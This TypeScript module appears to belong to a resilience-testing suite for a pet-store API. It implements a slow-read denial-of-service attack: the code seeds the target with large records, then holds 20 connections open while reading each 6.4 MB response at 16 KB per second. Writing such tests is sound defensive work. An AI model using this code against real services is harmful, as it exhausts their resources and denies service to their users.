import type { Socket } from 'node:net';
import { addHugeAnimals } from './add-huge-animals.ts';
import type { Attack } from './attack.ts';
import { withSockets, write } from './open-sockets.ts';
import { bearer, request } from './requests.ts';

const connections = 20;

/** How much of a response is read in one second, in bytes. */
const bytesPerSecond = 16 * 1024;

/** Lists a page of 6.4 MB on each of 20 connections, and reads 16 KB a second of it. */
export const readSlowly: Attack = (target) =>
  withSockets(target, async (sockets) => {
    await addHugeAnimals(sockets, target.apiKey, 100);
    const page = request('GET /v1/pets?limit=100&status=sold', [bearer(target.apiKey)]);
    const slow: Socket[] = [];
    for (let opened = 0; opened < connections; opened++) {
      const socket = await sockets.openDeaf();
      await write(socket, page);
      slow.push(socket);
    }
    while (!sockets.isOver()) {
      for (const socket of slow) socket.read(Math.min(bytesPerSecond, socket.readableLength));
      await sockets.wait(1_000);
    }
  });
